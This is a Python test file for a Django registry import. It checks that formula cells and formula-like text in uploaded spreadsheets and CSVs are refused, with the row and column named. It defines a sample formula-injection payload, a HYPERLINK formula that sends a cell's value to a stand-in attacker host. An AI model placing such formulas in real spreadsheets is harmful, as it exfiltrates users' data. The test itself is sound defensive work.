"""Finding 8 of issue 11: an import refuses formula cells, and text typed as a formula in a
free-text field, naming the row and the column; numbers (negative ones too) are not formulas."""

from __future__ import annotations

import io
from collections.abc import Callable, Sequence

import openpyxl
import pytest

from chizheng.accounts.models import Role, User
from chizheng.registry import imports
from chizheng.registry.models import Person
from chizheng.registry.tests import flow

from .conftest import HEADERS, person_row

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'


def _xlsx(rows: Sequence[Sequence[object]]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADERS)
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_a_formula_cell_is_reported_on_its_row(
    occupations: None, make_user: Callable[..., User]
) -> None:
    good, hostile, year = person_row(1), person_row(2), person_row(3)
    hostile[0] = HOSTILE  # openpyxl writes a text starting with "=" as a formula cell
    year[11] = "=2000+20"  # a formula in a number column is refused too
    job = flow.validate(
        actor=make_user(Role.PROGRAMME_OFFICE),
        kind="people",
        filename="p.xlsx",
        content=_xlsx([good, hostile, year]),
    )
    assert job.bad_rows == 2
    by_row = {e["row"]: e for e in job.errors}
    assert by_row[3]["column"] == "姓名" and "公式" in by_row[3]["reason"]
    assert by_row[4]["column"] == "毕业年份" and "公式" in by_row[4]["reason"]
    assert len(job.errors) == 2  # one clear error per formula cell, not "必填" besides
    assert Person.objects.count() == 0


def test_text_typed_as_a_formula_in_a_name_is_refused(
    occupations: None,
    make_user: Callable[..., User],
    people_csv: Callable[[list[list[str]]], bytes],
) -> None:
    hostile, wide, fine = person_row(1), person_row(2), person_row(3)
    hostile[0] = HOSTILE
    wide[0] = "＝1+1"
    fine[0] = "-张三"  # a leading "-" is not refused; exports neutralise it
    job = flow.validate(
        actor=make_user(Role.PROGRAMME_OFFICE),
        kind="people",
        filename="p.csv",
        content=people_csv([hostile, wide, fine]),
    )
    assert {(e["row"], e["column"]) for e in job.errors} == {(2, "姓名"), (3, "姓名")}
    assert all("公式" in e["reason"] for e in job.errors)


def test_numbers_are_still_numbers(occupations: None, make_user: Callable[..., User]) -> None:
    row: list[object] = list(person_row(1))
    row[2] = 13900000001  # a number cell, not a formula
    job = imports.import_file(
        actor=make_user(Role.PROGRAMME_OFFICE),
        kind="people",
        filename="p.xlsx",
        content=_xlsx([row]),
    )
    assert job.bad_rows == 0, job.errors
    assert Person.objects.get().phone == "13900000001"
